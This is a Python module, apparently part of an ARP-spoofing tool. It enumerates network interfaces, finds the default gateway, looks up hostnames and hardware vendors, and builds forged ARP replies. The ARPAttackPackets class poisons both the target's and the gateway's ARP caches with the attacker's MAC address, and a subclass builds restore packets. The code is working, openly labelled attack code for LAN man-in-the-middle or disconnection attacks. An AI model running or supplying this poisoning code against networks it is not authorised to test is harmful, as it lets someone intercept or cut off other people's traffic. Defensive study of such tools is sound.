#!/usr/bin/env python3
# Interface enumeration, host enrichment and forged ARP frame construction.
# Requires: scapy (interface tables, routes and the manufacturer database)

from csv import DictReader
from dataclasses import dataclass, field
from ipaddress import IPv4Interface, IPv4Address, ip_interface
from socket import inet_ntop, AF_INET, gethostbyaddr, herror, gaierror
from struct import pack
from types import SimpleNamespace
from typing import List, Optional
import logging
import os

from scapy.all import conf, get_if_hwaddr
from scapy.utils import ltoa

from errors import InterfaceError
from protocols import ARP, ARP_REPLY, Ethernet, Packet, ZERO_MAC, is_valid_mac

logger = logging.getLogger(__name__)

UNKNOWN_VENDOR = 'Unknown'


@dataclass(frozen=True)
class InterfaceInfo:
    """Snapshot of one network interface taken at enumeration time."""
    name: str
    description: str
    mac: str
    addresses: tuple = field(default_factory=tuple)

    @property
    def primary(self) -> Optional[IPv4Interface]:
        return self.addresses[0] if self.addresses else None

    def to_dict(self) -> dict:
        return {'name': self.name, 'description': self.description, 'mac': self.mac,
                'ips': [str(addr) for addr in self.addresses]}


@dataclass(frozen=True)
class Device:
    ip: str
    mac: Optional[str]
    hostname: str = ''
    vendor: str = UNKNOWN_VENDOR

    def to_dict(self) -> dict:
        return {'ip': self.ip, 'mac': self.mac, 'hostname': self.hostname, 'vendor': self.vendor}

    @classmethod
    def from_dict(cls, record: dict) -> 'Device':
        return cls(ip=record['ip'], mac=record.get('mac'),
                   hostname=record.get('hostname') or '',
                   vendor=record.get('vendor') or UNKNOWN_VENDOR)


class ARPAttackPackets(object):
    """
    The pair of forged replies of one poisoning tick.

    The target is told the gateway IP lives at the attacker MAC and the
    gateway is told the same about the target IP.
    """

    def __init__(self, attacker_mac: str, gateway_ip: str, gateway_mac: str,
                 target_ip: str, target_mac: str):
        self.attacker_mac = attacker_mac
        self.gateway_ip = gateway_ip
        self.gateway_mac = gateway_mac
        self.target_ip = target_ip
        self.target_mac = target_mac

    def __iter__(self):
        yield self.payload_to_target
        yield self.payload_to_gateway

    @property
    def claimed_gateway_mac(self) -> str:
        return self.attacker_mac

    @property
    def claimed_target_mac(self) -> str:
        return self.attacker_mac

    @property
    def payload_to_gateway(self) -> bytes:
        gateway = Packet(Ethernet(dst=self.gateway_mac, src=self.attacker_mac),
                         ARP(sha=self.claimed_target_mac, spa=self.target_ip,
                             tha=self.gateway_mac, tpa=self.gateway_ip, oper=ARP_REPLY))
        return gateway.payload

    @property
    def payload_to_target(self) -> bytes:
        target = Packet(Ethernet(dst=self.target_mac, src=self.attacker_mac),
                        ARP(sha=self.claimed_gateway_mac, spa=self.gateway_ip,
                            tha=self.target_mac, tpa=self.target_ip, oper=ARP_REPLY))
        return target.payload


class ARPRestorePackets(ARPAttackPackets):
    """Corrective replies carrying the real hardware addresses."""

    @property
    def claimed_gateway_mac(self) -> str:
        return self.gateway_mac

    @property
    def claimed_target_mac(self) -> str:
        return self.target_mac


class NetworkingTables(object):
    """Read access to the kernel routing table (/proc/net/route)."""

    ROUTE_PATH = '/proc/net/route'
    ROUTE_HEADERS = ('interface', 'destination', 'gateway', 'flags', 'ref_cnt', 'use',
                     'metric', 'mask', 'mtu', 'window', 'irtt')

    @staticmethod
    def __parse_networking_table(path: str, header: tuple, delimiter: str):
        with open(path, 'r', encoding='utf_8') as table:
            settings = DictReader(table, fieldnames=header, skipinitialspace=True, delimiter=delimiter)
            next(settings, None)  # Skip header line
            yield from (line for line in settings)

    @property
    def routing_table(self):
        if not os.path.exists(self.ROUTE_PATH):
            return iter(())
        return NetworkingTables.__parse_networking_table(self.ROUTE_PATH, self.ROUTE_HEADERS, '\t')

    def get_default_route(self) -> Optional[SimpleNamespace]:
        """
        Return SimpleNamespace(interface=<ifname>, gateway=<ip>) for the
        default route, or None when there is none.
        """
        for route in self.routing_table:
            # RTF_UP | RTF_GATEWAY
            if int(route['flags'], 16) & 0x0003 == 0x0003 and int(route['destination'], 16) == 0:
                gw_ip = inet_ntop(AF_INET, pack("=L", int(route['gateway'], 16)))
                return SimpleNamespace(interface=route['interface'], gateway=gw_ip)

        # Non-Linux hosts: ask scapy's route table
        try:
            iface, _, gateway = conf.route.route('0.0.0.0')
        except (OSError, ValueError):
            return None
        if not gateway or gateway == '0.0.0.0':
            return None
        return SimpleNamespace(interface=getattr(iface, 'name', iface), gateway=gateway)


def _route_addresses(name: str) -> List[IPv4Interface]:
    """Directly connected IPv4 networks scapy knows for ``name``."""
    addresses = []
    for route in conf.route.routes:
        net, msk, gw, iface, addr = route[:5]
        if getattr(iface, 'name', iface) != name or gw != '0.0.0.0':
            continue
        if msk in (0, 0xFFFFFFFF) or not addr or addr == '0.0.0.0':
            continue
        prefix = bin(msk).count('1')
        candidate = ip_interface(f'{addr}/{prefix}')
        if candidate.network.network_address != IPv4Address(ltoa(net)):
            continue
        if candidate not in addresses:
            addresses.append(candidate)
    return addresses


def _interface_addresses(iface) -> List[IPv4Interface]:
    addresses = _route_addresses(iface.name)
    if not addresses and getattr(iface, 'ip', None):
        # No connected route (e.g. scapy could not read the tables); assume a /24
        logger.debug(f'No connected route for {iface.name}, assuming {iface.ip}/24')
        addresses = [ip_interface(f'{iface.ip}/24')]
    return [addr for addr in addresses
            if not addr.ip.is_loopback and not addr.ip.is_link_local]


def list_interfaces() -> List[InterfaceInfo]:
    """
    Enumerate usable IPv4 interfaces (loopback and link-local only ones are
    skipped).
    """
    try:
        candidates = list(conf.ifaces.values())
    except Exception as exc:
        raise InterfaceError('Failed to get network interfaces', str(exc))

    interfaces = []
    for iface in candidates:
        if iface.name == conf.loopback_name:
            continue
        addresses = _interface_addresses(iface)
        if not addresses:
            continue
        mac = (iface.mac or '').lower()
        if not is_valid_mac(mac):
            try:
                mac = get_if_hwaddr(iface.name).lower()
            except (OSError, ValueError):
                mac = ZERO_MAC
        description = getattr(iface, 'description', None) or iface.name
        ips = ', '.join(str(addr.ip) for addr in addresses)
        interfaces.append(InterfaceInfo(name=iface.name,
                                        description=f'{description} - {ips}',
                                        mac=mac,
                                        addresses=tuple(addresses)))

    if not interfaces:
        raise InterfaceError('No suitable network interfaces found')
    logger.debug(f'Found {len(interfaces)} network interfaces')
    return interfaces


def get_default_interface() -> Optional[str]:
    route = NetworkingTables().get_default_route()
    return route.interface if route else None


def get_default_gateway() -> Optional[str]:
    route = NetworkingTables().get_default_route()
    return route.gateway if route else None


def resolve_hostname(ip_address: str) -> str:
    try:
        hostname, _, _ = gethostbyaddr(ip_address)
        return hostname
    except (herror, gaierror, OSError):
        return ''


def lookup_vendor(mac: Optional[str]) -> str:
    """Manufacturer name for the OUI of ``mac`` from scapy's manuf database."""
    if not mac or conf.manufdb is None:
        return UNKNOWN_VENDOR
    try:
        entry = conf.manufdb.lookup(mac.lower())
    except (KeyError, AttributeError, ValueError):
        return UNKNOWN_VENDOR
    if isinstance(entry, tuple):
        # unknown OUIs come back as (mac, mac)
        names = [name for name in entry if name and name.lower() != mac.lower()]
        return names[-1] if names else UNKNOWN_VENDOR
    if not entry or entry.lower() == mac.lower():
        return UNKNOWN_VENDOR
    return entry
